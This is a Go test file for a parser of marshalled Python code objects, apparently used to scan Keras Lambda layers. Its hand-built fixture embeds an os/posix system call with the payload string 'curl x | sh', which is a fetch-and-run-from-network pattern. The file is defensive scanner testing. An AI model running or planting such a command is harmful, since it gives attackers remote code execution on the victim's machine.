package keras

import (
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"os"
	"slices"
	"testing"
)

// readMarshalSeed returns the marshalled lambda from the Keras 3 fixture.
func readMarshalSeed(t testing.TB) []byte {
	t.Helper()
	b, err := os.ReadFile("testdata/lambda.marshal.b64")
	if err != nil {
		t.Fatal(err)
	}
	raw, err := base64.StdEncoding.DecodeString(string(b))
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func TestParseMarshal(t *testing.T) {
	t.Parallel()
	c, err := ParseMarshal(readMarshalSeed(t))
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(c.Names, []string{"os", "system"}) || !slices.Contains(c.Strings, "true") || c.Layout != "3.11+" {
		t.Fatalf("got %+v", c)
	}
}

// TestMarshalCases compares against what CPython itself lists for each
// code object (gen.py walks co_names and co_consts recursively).
func TestMarshalCases(t *testing.T) {
	t.Parallel()
	raw, err := os.ReadFile("testdata/marshal_cases.json")
	if err != nil {
		t.Fatal(err)
	}
	var cases []struct {
		Source  string   `json:"source"`
		B64     string   `json:"b64"`
		Names   []string `json:"names"`
		Strings []string `json:"strings"`
	}
	if err := json.Unmarshal(raw, &cases); err != nil {
		t.Fatal(err)
	}
	for _, tc := range cases {
		b, err := base64.StdEncoding.DecodeString(tc.B64)
		if err != nil {
			t.Fatal(err)
		}
		c, err := ParseMarshal(b)
		if err != nil {
			t.Errorf("%s: %v", tc.Source, err)
			continue
		}
		got := slices.Clone(c.Names)
		slices.Sort(got)
		if !slices.Equal(got, tc.Names) {
			t.Errorf("%s: names %q, want %q", tc.Source, got, tc.Names)
		}
		for _, s := range tc.Strings {
			if !slices.Contains(c.Strings, s) {
				t.Errorf("%s: strings %q lack %q", tc.Source, c.Strings, s)
			}
		}
	}
}

// py38Code builds a Python 3.8-layout code object by hand: six int32
// fields, then the eight objects, line number and lnotab.
func py38Code() []byte {
	var b []byte
	i32 := func(v int) { b = binary.LittleEndian.AppendUint32(b, uint32(v)) }
	str := func(typ byte, s string) { b = append(b, typ, byte(len(s))); b = append(b, s...) }
	b = append(b, 'c'|0x80)
	for range 6 {
		i32(0)
	}
	b = append(b, 's')
	i32(2)
	b = append(b, 0x64, 0x00)
	b = append(b, ')', 2, 'N') // consts: (None, 'curl x | sh')
	str('z', "curl x | sh")
	b = append(b, ')', 2) // names: ('posix', 'system') with a back-reference
	str('Z'|0x80, "posix")
	str('Z', "system")
	b = append(b, ')', 0) // varnames
	b = append(b, ')', 0) // freevars
	b = append(b, ')', 0) // cellvars
	b = append(b, 'r')    // filename: back-reference to "posix"
	i32(1)                // (ref 0 is the code object itself)
	str('z', "<lambda>")  // name
	i32(1)                // firstlineno
	b = append(b, 's')    // lnotab
	i32(0)
	return b
}

func TestParseMarshalLayouts(t *testing.T) {
	t.Parallel()
	c, err := ParseMarshal(py38Code())
	if err != nil {
		t.Fatal(err)
	}
	if c.Layout != "3.8-3.10" || !slices.Equal(c.Names, []string{"posix", "system"}) || !slices.Contains(c.Strings, "curl x | sh") {
		t.Fatalf("got %+v", c)
	}
	bad := [][]byte{nil, {'c'}, {'x'}, {'r', 0, 0, 0, 0}, append(py38Code(), 0), {'(', 0xff, 0xff, 0xff, 0x7f}}
	for _, b := range bad {
		if _, err := ParseMarshal(b); err == nil {
			t.Errorf("ParseMarshal(%q) succeeded", b)
		}
	}
}

func FuzzMarshal(f *testing.F) {
	f.Add(readMarshalSeed(f))
	f.Add(py38Code())
	if raw, err := os.ReadFile("testdata/marshal_cases.json"); err == nil {
		var cases []struct{ B64 string }
		json.Unmarshal(raw, &cases)
		for _, c := range cases {
			if b, err := base64.StdEncoding.DecodeString(c.B64); err == nil {
				f.Add(b)
			}
		}
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		ParseMarshal(b)
	})
}
